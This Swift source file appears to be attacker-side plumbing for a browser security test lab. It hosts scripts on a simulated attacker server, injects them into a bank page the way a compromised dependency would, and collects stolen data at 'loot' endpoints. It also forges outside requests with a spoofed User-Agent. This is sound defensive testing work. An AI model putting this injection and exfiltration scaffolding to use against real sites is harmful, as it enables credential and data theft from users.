/// What the attacker does: scripts, pages, and requests from another machine.
extension Scene {
    /// Publishes a file on the attacker's server: a script with the cell's constants in front, a page with its
    /// placeholders filled in.
    /// - Returns: its path.
    func put(_ text: String, as file: String) -> String {
        let isScript = file.hasSuffix(".js")
        attacker.put(
            isScript ? constants + text : filled(text), as: file,
            type: isScript ? "text/javascript; charset=utf-8" : "text/html; charset=utf-8", for: name)
        return "/files/\(name)/\(file)"
    }

    private var constants: String {
        """
        globalThis.LOOT = "\(attackerOrigin)/loot/\(name)"; globalThis.FILES = "\(attackerOrigin)/files/\(name)/";
        globalThis.THIEF = { email: "\(thief.email)", password: "\(thief.password)" };
        globalThis.PRIVATE_PORT = \(target.proxies?.server.port ?? 0);

        """
    }

    private func filled(_ html: String) -> String {
        let values = [
            "TARGET": origin, "THIEF": thief.email, "PASSWORD": thief.password,
            "REDIRECT": "\(attackerOrigin)/redirect/\(name)", "LOOT": "\(attackerOrigin)/loot/\(name)",
            "SOCKET": "ws://\(host):\(target.server.port)",
        ]
        return values.reduce(html) { $0.replacing("{{\($1.key)}}", with: $1.value) }
    }

    /// Adds a script to the bank's page that runs before the app's, as a compromised dependency does.
    /// - Parameter file: a path below `attacks/`.
    func inject(_ file: String) throws {
        target.pages[host].injected = attackerOrigin + put(try LabFile.text("attacks/\(file)"), as: "injected.js")
    }

    /// Runs a script in the page while it is open.
    /// - Parameters:
    ///   - file: a path below `attacks/`.
    ///   - definitions: JavaScript in front of it.
    func injectNow(_ file: String, after definitions: String = "") async throws {
        let script = definitions + (try LabFile.text("attacks/\(file)"))
        let address = attackerOrigin + put(script, as: "injected-now.js")
        try await browser.run(
            """
            await new Promise((loaded, failed) => {
                const script = document.createElement("script");
                [script.src, script.onload, script.onerror] = [args[0], loaded, failed];
                document.head.append(script);
            });
            """, .string(address))
    }

    /// Opens a page of the attacker in the victim's browser, on the attacker's site or on a sibling host of the bank.
    func visit(_ page: String, as file: String, sibling: Bool = false) async throws {
        try await browser.open((sibling ? siblingOrigin : attackerOrigin) + put(page, as: file))
    }

    /// The data that script and pages have sent to the attacker's server, once there is some.
    func loot(seconds: Double = 8) async throws -> [String] {
        try await wait("data to arrive", seconds: seconds) { !attacker.loot(of: name).isEmpty }
        return attacker.loot(of: name)
    }

    /// Sends a request from another machine, which can set every header.
    func outside(
        _ method: String, _ path: String, headers: [(String, String)] = [], _ body: [UInt8] = []
    ) async throws -> LocalHTTP.Reply {
        let port = target.server.port
        return try await LocalHTTP.send(
            method, port: port, path,
            headers: [("Host", "\(host):\(port)"), ("Origin", origin), ("User-Agent", userAgent)]
                + headers, body: body)
    }

    /// An attacker copies the victim's `User-Agent` as well: on plain loopback it decides the name of Cloakroom's cookie.
    private var userAgent: String {
        switch browser.engine {
        case .chromium: "Chrome/150 \(LoggedRequest.elsewhere)"
        case .firefox: "Firefox/150 \(LoggedRequest.elsewhere)"
        case .webkit: "AppleWebKit/605.1.15 Safari/605.1.15 \(LoggedRequest.elsewhere)"
        }
    }

    /// Whether this text has reached the attacker.
    func hasLost(_ secret: String) -> Bool {
        attacker.loot(of: name).contains { $0.contains(secret) }
    }
}
